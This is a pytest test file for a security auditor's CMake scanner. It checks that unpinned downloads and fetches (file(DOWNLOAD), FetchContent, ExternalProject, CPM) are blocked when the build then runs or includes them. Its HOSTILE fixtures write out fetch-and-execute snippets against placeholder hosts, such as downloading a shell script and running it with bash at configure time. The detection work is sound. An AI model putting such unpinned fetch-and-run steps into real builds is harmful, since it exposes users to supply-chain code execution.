"""CMake downloads and fetches with no digest (issue 29, principle 1): reviewed where they are,
blocked where the build runs or includes what they brought. Written with the shapes of real
CMake files (vLLM's FetchContent by tag or commit, an ACL-style populate then build, a downloaded
CMake module or script); vLLM's own sdist, where the machine has it, gets no block."""

from __future__ import annotations

import tarfile
from pathlib import Path

import pytest

from auditor.model import Category, Severity
from auditor.scan import cmake

RUN = cmake.RULE_RUN
COMMIT = "57b0bc6d3e0e6e3b2a5b9a8c1f0d4e2a3b4c5d6e"
SDIST = Path(__file__).resolve().parents[2] / "benchmarks/work/downloads/vllm-0.10.0.tar.gz"


def _rules(text: str) -> list[tuple[int, str]]:
    return [(f.line, f.rule) for f in cmake.scan_text(text, "cmake/external_projects/x.cmake")]


HOSTILE = [
    # a CMake module downloaded and included
    ("file(DOWNLOAD https://x.example/hooks.cmake ${CMAKE_BINARY_DIR}/hooks.cmake)\n"
     "include(${CMAKE_BINARY_DIR}/hooks.cmake)\n", 2),
    # through variables, run by an interpreter at configure time
    ("set(S ${CMAKE_BINARY_DIR}/fix.sh)\nfile(DOWNLOAD https://x.example/fix.sh ${S})\n"
     "execute_process(COMMAND bash ${S} RESULT_VARIABLE rc)\n", 3),
    # run by its own name from a custom command, behind cmake -E env
    ("file(DOWNLOAD https://x.example/gen ${CMAKE_BINARY_DIR}/gen)\n"
     "add_custom_command(OUTPUT k.cu COMMAND ${CMAKE_COMMAND} -E env PYTHONPATH=x\n"
     "  ${CMAKE_BINARY_DIR}/gen -o k.cu)\n", 2),
    # a downloaded patch applied to a pinned fetch
    ("file(DOWNLOAD https://x.example/fa.patch ${CMAKE_BINARY_DIR}/fa.patch)\n"
     f"FetchContent_Declare(fa GIT_REPOSITORY https://x/fa.git GIT_TAG {COMMIT}\n"
     "  PATCH_COMMAND git apply ${CMAKE_BINARY_DIR}/fa.patch)\n", 2),
    # an archive downloaded, unpacked and added as a subdirectory
    ("file(DOWNLOAD https://x.example/k.tgz ${CMAKE_BINARY_DIR}/k.tgz)\n"
     "file(ARCHIVE_EXTRACT INPUT ${CMAKE_BINARY_DIR}/k.tgz DESTINATION ${CMAKE_BINARY_DIR}/k)\n"
     "add_subdirectory(${CMAKE_BINARY_DIR}/k ${CMAKE_BINARY_DIR}/k-build)\n", 3),
    ("file(DOWNLOAD https://x.example/k.tgz ${CMAKE_BINARY_DIR}/k.tgz)\n"
     "execute_process(COMMAND ${CMAKE_COMMAND} -E tar xzf ${CMAKE_BINARY_DIR}/k.tgz\n"
     "  WORKING_DIRECTORY ${CMAKE_BINARY_DIR}/k)\ninclude(${CMAKE_BINARY_DIR}/k/setup.cmake)\n", 4),
    # a fetch from a URL with no URL_HASH, or from a branch, made available: its CMakeLists runs
    ("FetchContent_Declare(fastk URL https://x.example/fastk.tgz)\n"
     "FetchContent_MakeAvailable(fastk)\n", 2),
    ("FetchContent_Declare(fastk GIT_REPOSITORY https://x/fastk.git GIT_TAG main)\n"
     "FetchContent_MakeAvailable(fastk)\n", 2),
    ("FetchContent_Declare(fastk GIT_REPOSITORY https://x/fastk.git)\n"
     "FetchContent_MakeAvailable(fastk)\n", 2),
    ("CPMAddPackage(NAME fastk URL https://x.example/fastk.tgz)\n", 1),
    # a script of the fetched tree run; its folder named through GetProperties
    ("FetchContent_Declare(gen URL https://x.example/gen.tgz)\nFetchContent_Populate(gen)\n"
     "execute_process(COMMAND ${Python_EXECUTABLE} ${gen_SOURCE_DIR}/gen.py)\n", 3),
    ("FetchContent_Declare(p URL https://x.example/p.tgz)\n"
     "FetchContent_GetProperties(p SOURCE_DIR PDIR)\n"
     f"FetchContent_Declare(c GIT_REPOSITORY https://x/c.git GIT_TAG {COMMIT}\n"
     "  PATCH_COMMAND git apply ${PDIR}/fix.patch)\n", 3),
    # its own patch step runs a script of the fetched tree
    ("FetchContent_Declare(z URL https://a.example/z.tgz PATCH_COMMAND sh ./fix.sh)\n", 1),
    # ExternalProject builds what it fetched (default or given configure step)
    ("ExternalProject_Add(z URL https://a.example/z.tgz CONFIGURE_COMMAND ./configure)\n", 1),
    ("ExternalProject_Add(z GIT_REPOSITORY https://a/z.git GIT_TAG master)\n", 1),
    # the folders CMake gives a fetch, under any root
    ("ExternalProject_Add(z URL https://a.example/z.tgz CONFIGURE_COMMAND \"\" BUILD_COMMAND \"\")\n"
     "execute_process(COMMAND sh ${CMAKE_BINARY_DIR}/z-prefix/src/z/install.sh)\n", 2),
    ("FetchContent_Declare(z URL https://a.example/z.tgz)\nFetchContent_Populate(z)\n"
     "include(${CMAKE_BINARY_DIR}/_deps/z-src/cmake/z.cmake)\n", 3),
    # populated at a folder of its own, then built there (the shape of vLLM's ACL build)
    ("FetchContent_Populate(acl SOURCE_DIR ${FETCHCONTENT_BASE_DIR}/acl-src\n"
     "  GIT_REPOSITORY https://x/acl.git GIT_TAG main)\n"
     "execute_process(COMMAND ${CMAKE_COMMAND} -G Ninja -B build\n"
     "  WORKING_DIRECTORY ${FETCHCONTENT_BASE_DIR}/acl-src)\n", 3),
]


@pytest.mark.parametrize("text,line", HOSTILE)
def test_what_came_unpinned_and_then_runs_blocks(text: str, line: int) -> None:
    found = [f for f in cmake.scan_text(text) if f.rule == RUN]
    assert [f.line for f in found] == [line], _rules(text)
    assert found[0].category is Category.NETWORK and found[0].severity is Severity.CRITICAL


BENIGN = [
    # pinned: by a hash, a commit, or a release tag (reviewed, never blocked: vLLM runs CUTLASS's
    # Python from GIT_TAG v4.0.0, and builds ACL from v52.6.0)
    ("file(DOWNLOAD https://x.example/hooks.cmake ${CMAKE_BINARY_DIR}/hooks.cmake\n"
     "  EXPECTED_HASH SHA256=" + "ab" * 32 + ")\ninclude(${CMAKE_BINARY_DIR}/hooks.cmake)\n"),
    ("FetchContent_Declare(fastk URL https://x.example/fastk.tgz URL_HASH SHA256=00)\n"
     "FetchContent_MakeAvailable(fastk)\n"),
    (f"FetchContent_Declare(c GIT_REPOSITORY https://x/c.git GIT_TAG {COMMIT})\n"
     "FetchContent_MakeAvailable(c)\n"),
    ("set(CUTLASS_REVISION \"v4.0.0\" CACHE STRING \"rev\")\n"
     "FetchContent_Declare(cutlass GIT_REPOSITORY https://x/cutlass.git\n"
     "  GIT_TAG ${CUTLASS_REVISION})\nFetchContent_MakeAvailable(cutlass)\n"
     "execute_process(COMMAND ${CMAKE_COMMAND} -E env PYTHONPATH=${cutlass_SOURCE_DIR}/python/\n"
     "  ${Python_EXECUTABLE} ${cutlass_SOURCE_DIR}/python/gen.py)\n"),
    ("FetchContent_Populate(acl SOURCE_DIR ${FETCHCONTENT_BASE_DIR}/acl-src\n"
     "  GIT_REPOSITORY https://x/acl.git GIT_TAG v52.6.0)\n"
     "execute_process(COMMAND ${CMAKE_COMMAND} -G Ninja -B build\n"
     "  WORKING_DIRECTORY ${FETCHCONTENT_BASE_DIR}/acl-src)\n"),
    # a tag from a variable the file does not set: reviewed as it is, not guessed a branch
    ("FetchContent_Declare(t GIT_REPOSITORY https://x/t.git GIT_TAG ${TAG})\n"
     "FetchContent_MakeAvailable(t)\n"),
    # downloaded but only read: data, headers
    "file(DOWNLOAD https://x.example/table.bin ${CMAKE_BINARY_DIR}/table.bin)\n",
    ("FetchContent_Declare(h URL https://x.example/h.tgz)\nFetchContent_Populate(h)\n"
     "include_directories(${h_SOURCE_DIR}/include)\n"),
    # fetched with every step switched off
    ("ExternalProject_Add(z URL https://a.example/z.tgz CONFIGURE_COMMAND \"\"\n"
     "  BUILD_COMMAND \"\" INSTALL_COMMAND \"\")\n"),
    # a project script run on the downloaded data: the script is the tree's
    ("file(DOWNLOAD https://x.example/t.json ${CMAKE_BINARY_DIR}/t.json)\n"
     "execute_process(COMMAND ${Python_EXECUTABLE} ${CMAKE_SOURCE_DIR}/tools/gen.py\n"
     "  ${CMAKE_BINARY_DIR}/t.json)\n"),
]


@pytest.mark.parametrize("text", BENIGN)
def test_pinned_or_not_run_does_not_block(text: str) -> None:
    assert all(rule != RUN for _l, rule in _rules(text)), _rules(text)


def test_an_unhashed_download_alone_is_reviewed() -> None:
    found = list(cmake.scan_text("file(DOWNLOAD https://x.example/t.bin ${CMAKE_BINARY_DIR}/t)\n"))
    assert [(f.rule, f.category) for f in found] == [
        ("dependency.builtin.cmake-download-unpinned", Category.DEPENDENCY)]


def test_the_block_names_the_download_and_its_line() -> None:
    text = ("\n\nfile(DOWNLOAD https://x.example/hooks.cmake ${CMAKE_BINARY_DIR}/h.cmake)\n"
            "include(${CMAKE_BINARY_DIR}/h.cmake)\n")
    run = next(f for f in cmake.scan_text(text) if f.rule == RUN)
    assert "include()" in run.message and "https://x.example/hooks.cmake" in run.message
    assert "(line 3)" in run.message and run.line == 4


def test_populate_with_its_own_arguments_is_judged_as_a_fetch() -> None:
    text = ("FetchContent_Populate(acl SOURCE_DIR x GIT_REPOSITORY https://x/acl.git\n"
            "  GIT_TAG v52.6.0)\n")
    assert _rules(text) == [(1, "dependency.builtin.cmake-fetch-unpinned")]


@pytest.mark.skipif(not SDIST.is_file(), reason=f"no vLLM 0.10.0 sdist at {SDIST}")
def test_real_vllm_cmake_files_get_no_block(tmp_path: Path) -> None:
    seen = 0
    with tarfile.open(SDIST) as tf:
        for m in tf.getmembers():
            rel = m.name.split("/", 1)[-1]
            if not (m.isfile() and cmake.is_cmake(rel)):
                continue
            fh = tf.extractfile(m)
            assert fh is not None
            text = fh.read().decode()
            seen += 1
            assert [f for f in cmake.scan_text(text, rel) if f.rule == RUN] == [], rel
    assert seen >= 4


# CPM.cmake's shorthand and repository keywords are the same fetches, spelled another way
CPM_BLOCK = [
    'CPMAddPackage("gh:someone/fastk#main")\n',
    'CPMAddPackage(URI "gh:someone/fastk#dev" OPTIONS "FASTK_CUDA ON")\n',
    "CPMAddPackage(NAME fastk GITHUB_REPOSITORY someone/fastk)\n",
    "CPMFindPackage(NAME fastk GITLAB_REPOSITORY someone/fastk GIT_TAG master)\n",
    'set(BRANCH nightly)\nCPMAddPackage("gh:someone/fastk#${BRANCH}")\n',
    'CPMAddPackage("https://x.example/fastk-1.2.zip")\n',
    'CPMAddPackage("https://git.example/someone/fastk.git#main")\n',
]


@pytest.mark.parametrize("text", CPM_BLOCK)
def test_cpm_shorthand_of_a_branch_or_unhashed_url_blocks(text: str) -> None:
    found = [f for f in cmake.scan_text(text) if f.rule == RUN]
    assert len(found) == 1 and "fastk" in found[0].message, _rules(text)
    assert "CMakeLists.txt of fastk" in found[0].message


CPM_REVIEW = [  # a release tag or a version: reviewed, as FetchContent's tag is
    ('CPMAddPackage("gh:fmtlib/fmt#7.1.3")\n', "GIT_TAG 7.1.3"),
    ('CPMAddPackage("gh:nlohmann/json@3.11.2")\n', "GIT_TAG v3.11.2"),
    ("CPMAddPackage(NAME fmt GITHUB_REPOSITORY fmtlib/fmt VERSION 10.2.1)\n", "GIT_TAG v10.2.1"),
    ('CPMAddPackage("gh:someone/fastk#main" DOWNLOAD_ONLY YES)\n', "GIT_TAG main"),
]


@pytest.mark.parametrize("text,tag", CPM_REVIEW)
def test_cpm_shorthand_of_a_tag_is_reviewed(text: str, tag: str) -> None:
    found = list(cmake.scan_text(text))
    assert [f.rule for f in found] == ["dependency.builtin.cmake-fetch-unpinned"], _rules(text)
    assert tag in found[0].message and "https://" in found[0].message


@pytest.mark.parametrize("text", [
    'CPMAddPackage("gh:jbeder/yaml-cpp@0.6.3#' + COMMIT + '")\n',
    f"CPMAddPackage(NAME k GITHUB_REPOSITORY o/k GIT_TAG {COMMIT})\n",
    "CPMAddPackage(NAME k URL https://x.example/k.zip URL_HASH SHA256=" + "ab" * 32 + ")\n",
    "CPMAddPackage(NAME local SOURCE_DIR ${CMAKE_SOURCE_DIR}/third_party/local)\n",
])
def test_cpm_pinned_by_commit_or_hash_is_quiet(text: str) -> None:
    assert _rules(text) == []
